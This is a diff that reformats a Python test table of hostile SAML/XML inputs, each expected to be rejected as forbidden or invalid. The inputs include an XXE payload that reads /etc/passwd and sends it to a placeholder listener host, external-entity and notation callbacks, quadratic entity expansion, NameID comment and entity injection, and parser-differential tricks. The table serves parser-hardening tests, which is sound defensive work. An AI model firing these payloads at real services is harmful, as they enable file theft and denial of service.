@@ -151,7 +151,10 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
         for scheme in ("ftp", "php", "jar", "expect", "gopher", "https", "netdoc", "data")
     },
     "XML-XXE-parameter_file": (
-        before_root(SUBSET % b'<!ENTITY %x SYSTEM "file:///etc/passwd"><!ENTITY %y "<!ENTITY z SYSTEM \'http://{listener}/%x;\'>">%y;'),
+        before_root(
+            SUBSET % b'<!ENTITY %x SYSTEM "file:///etc/passwd">'
+            b'<!ENTITY %y "<!ENTITY z SYSTEM \'http://{listener}/%x;\'>">%y;'
+        ),
         "xml_forbidden",
     ),
     "XML-XXE-public": (
@@ -159,7 +162,9 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
         "xml_forbidden",
     ),
     "XML-XXE-unparsed": (
-        before_root(SUBSET % b'<!NOTATION n SYSTEM "http://{listener}/n"><!ENTITY x SYSTEM "http://{listener}/x" NDATA n>'),
+        before_root(
+            SUBSET % b'<!NOTATION n SYSTEM "http://{listener}/n"><!ENTITY x SYSTEM "http://{listener}/x" NDATA n>'
+        ),
         "xml_forbidden",
     ),
     "XML-XXE-xinclude_text": (
@@ -187,13 +192,15 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
         "xml_forbidden",
     ),
     "XML-ENTITY-quadratic": (
-        lambda m: SUBSET % (b'<!ENTITY a "' + b"a" * 30_000 + b'">') + m.replace(NAME_ID, b"&a;" * 3000), "xml_forbidden",
+        lambda m: SUBSET % (b'<!ENTITY a "' + b"a" * 30_000 + b'">') + m.replace(NAME_ID, b"&a;" * 3000),
+        "xml_forbidden",
     ),
     "XML-ENTITY-in_name": (
         lambda m: SUBSET % b'<!ENTITY a "admin">' + m.replace(NAME_ID, b"&a;@example.com"), "xml_forbidden",
     ),
     "XML-ENTITY-in_attribute": (
-        lambda m: SUBSET % b'<!ENTITY a "admin">' + m.replace(b' Destination="', b' Destination="&a;', 1), "xml_forbidden",
+        lambda m: SUBSET % b'<!ENTITY a "admin">' + m.replace(b' Destination="', b' Destination="&a;', 1),
+        "xml_forbidden",
     ),
     "XML-ENTITY-alone": (before_root(b'<!ENTITY a "x">'), "xml_forbidden"),
     "XML-ENTITY-undefined_in_attribute": (
@@ -223,7 +230,9 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
     "NAMEID-PI": (in_name_id(b"<?x not-an-?>student@example.com"), "xml_forbidden"),
     "NAMEID-COMMENT-before_root": (before_root(b"<!-- x -->"), "xml_forbidden"),
     "NAMEID-COMMENT-behind_root": (lambda m: m + b"<!-- x -->", "xml_forbidden"),
-    "NAMEID-COMMENT-audience": (lambda m: m.replace(b"/saml/metadata</", b"/saml/metadata<!----></", 1), "xml_forbidden"),
+    "NAMEID-COMMENT-audience": (
+        lambda m: m.replace(b"/saml/metadata</", b"/saml/metadata<!----></", 1), "xml_forbidden",
+    ),
     "XML-MULTIROOT-behind": (lambda m: m + b"<evil/>", "xml_invalid"),
     "XML-MULTIROOT-before": (before_root(b"<evil/>"), "xml_invalid"),
     "XML-MULTIROOT-twice": (lambda m: m + m, "xml_invalid"),
@@ -300,12 +309,16 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
     "PARSER-DIFF-less_than_in_attribute": (
         lambda m: m.replace(b' Destination="', b' Destination="<', 1), "xml_invalid",
     ),
-    "PARSER-DIFF-attribute_twice": (lambda m: m.replace(b' Version="2.0"', b' Version="2.0" Version="2.0"', 1), "xml_invalid"),
+    "PARSER-DIFF-attribute_twice": (
+        lambda m: m.replace(b' Version="2.0"', b' Version="2.0" Version="2.0"', 1), "xml_invalid",
+    ),
     "PARSER-DIFF-attribute_twice_by_prefix": (
         lambda m: m.replace(b' Version="2.0"', b' xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2" Version="2.0"', 1),
         "xml_invalid",
     ),
-    "PARSER-DIFF-end_tag_with_attribute": (lambda m: m.replace(b"</saml:NameID>", b'</saml:NameID x="">', 1), "xml_invalid"),
+    "PARSER-DIFF-end_tag_with_attribute": (
+        lambda m: m.replace(b"</saml:NameID>", b'</saml:NameID x="">', 1), "xml_invalid",
+    ),
     "PARSER-DIFF-end_tag_case": (lambda m: m.replace(b"</saml:NameID>", b"</saml:nameid>", 1), "xml_invalid"),
     "PARSER-DIFF-end_tag_prefix": (
         lambda m: m.replace(b"<saml:Subject>", b'<saml:Subject xmlns:t="urn:oasis:names:tc:SAML:2.0:assertion">', 1)
@@ -319,7 +332,9 @@ SPOILT: dict[str, tuple[Spoil, str]] = {
     "PARSER-DIFF-xmlns_prefix": (in_name_id(b'<c xmlns:xmlns="urn:x"/>'), "xml_invalid"),
     "PARSER-DIFF-xml_prefix": (in_name_id(b'<c xmlns:xml="urn:x"/>'), "xml_invalid"),
     "PARSER-DIFF-xmlns_namespace": (in_name_id(b'<c xmlns:x="http://www.w3.org/2000/xmlns/"/>'), "xml_invalid"),
-    "PARSER-DIFF-default_xmlns_namespace": (in_name_id(b'<c xmlns="http://www.w3.org/XML/1998/namespace"/>'), "xml_invalid"),
+    "PARSER-DIFF-default_xmlns_namespace": (
+        in_name_id(b'<c xmlns="http://www.w3.org/XML/1998/namespace"/>'), "xml_invalid",
+    ),
     "PARSER-DIFF-cdata_unclosed": (in_name_id(b"<![CDATA[x"), "xml_invalid"),
     "PARSER-DIFF-cdata_lower_case": (in_name_id(b"<![cdata[x]]>"), "xml_forbidden"),
     "PARSER-DIFF-comment_with_dashes": (in_name_id(b"<!-- a -- b -->"), "xml_forbidden"),
